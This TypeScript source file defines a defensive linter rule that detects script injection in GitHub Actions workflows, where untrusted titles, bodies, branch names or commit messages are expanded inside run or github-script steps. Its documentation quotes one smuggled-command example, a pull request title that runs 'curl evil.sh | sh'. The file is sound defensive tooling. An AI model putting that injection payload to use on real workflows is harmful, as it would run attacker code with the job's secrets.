import type { Finding } from "./_define-rule.js";
import { defineRule } from "./_define-rule.js";
import { type Reference, formatReference } from "./_expressions.js";
import type { ExpressionUse, StepView } from "./_workflow-view.js";

// Values anyone who can open an issue, comment or push a branch to a fork writes, as listed in
// https://docs.github.com/actions/concepts/security/script-injections ("contexts that typically end
// with body, default_branch, email, head_ref, label, message, name, page_name, ref and title").
const UNTRUSTED: readonly (readonly string[])[] = [
  "head_ref",
  "event.issue.title",
  "event.issue.body",
  "event.pull_request.title",
  "event.pull_request.body",
  "event.pull_request.head.ref",
  "event.pull_request.head.label",
  "event.pull_request.head.repo.default_branch",
  "event.comment.body",
  "event.review.body",
  "event.review_comment.body",
  "event.discussion.title",
  "event.discussion.body",
  "event.pages.*.page_name",
  "event.commits.*.message",
  "event.commits.*.author.email",
  "event.commits.*.author.name",
  "event.commits.*.committer.email",
  "event.commits.*.committer.name",
  "event.head_commit.message",
  "event.head_commit.author.email",
  "event.head_commit.author.name",
  "event.head_commit.committer.email",
  "event.head_commit.committer.name",
  "event.workflow_run.head_branch",
  "event.workflow_run.display_title",
  "event.workflow_run.head_commit.message",
  "event.workflow_run.head_commit.author.email",
  "event.workflow_run.head_commit.author.name",
  "event.workflow_run.pull_requests.*.head.ref",
].map((path) => path.split("."));

export default defineRule({
  id: "script-injection",
  severity: "error",
  summary: "Untrusted event text (titles, bodies, branch names, commit messages) is expanded inside a script.",
  docs: {
    why: `\`\${{ }}\` is replaced before the shell (or github-script's JavaScript) runs, so a pull request
titled \`"; curl evil.sh | sh; #\` becomes part of the script and runs with the job's token and secrets.
Titles, bodies, comments, branch names, commit messages and author names are written by whoever
opens the issue or pull request.
See [script injections](https://docs.github.com/actions/concepts/security/script-injections).`,
    invalid: `on: pull_request
jobs:
  greet:
    runs-on: ubuntu-latest
    steps:
      - run: echo "Checking \${{ github.event.pull_request.title }}"
`,
    valid: `on: pull_request
jobs:
  greet:
    runs-on: ubuntu-latest
    steps:
      - run: echo "Checking $TITLE"
        env:
          TITLE: \${{ github.event.pull_request.title }}
`,
    fix: "Pass the value through `env:` and use the variable in the script (`\"$TITLE\"`, or `process.env.TITLE` in github-script): the shell then treats it as data.",
  },
  step({ step, report }) {
    for (const use of scriptUses(step)) {
      const reported = new Set<string>();
      for (const expression of use.expressions) {
        for (const reference of expression.references) {
          const text = formatReference(reference);
          if (!isUntrusted(reference) || reported.has(text)) continue;
          reported.add(text);
          report(finding(use, text));
        }
      }
    }
  },
});

// `run:`, and `script:` of actions/github-script: the places whose text is executed.
function scriptUses(step: StepView): ExpressionUse[] {
  const isGithubScript = step.uses?.toLowerCase().startsWith("actions/github-script@") ?? false;
  return step.expressions.filter((use) => (use.path.length === 5 && use.path[4] === "run") || (isGithubScript && use.path.length === 6 && use.path[4] === "with" && use.path[5] === "script"));
}

function finding(use: ExpressionUse, text: string): Finding {
  const variable = text.split(".").at(-1)!.replace(/[^a-z0-9]+/gi, "_").toUpperCase();
  const usage = use.path.at(-1) === "script" ? `process.env.${variable}` : `"$${variable}"`;
  return {
    path: use.path,
    message: `${text} is written by whoever opens the issue or pull request, and is pasted into this script before it runs`,
    hint: `pass it through env (${variable}: \${{ ${text} }}) and use ${usage} in the script`,
  };
}

function isUntrusted(reference: Reference): boolean {
  if (reference.root !== "github") return false;
  return UNTRUSTED.some((pattern) => pattern.length === reference.segments.length && pattern.every((segment, index) => segment === "*" || reference.segments[index] === "*" || reference.segments[index] === segment));
}
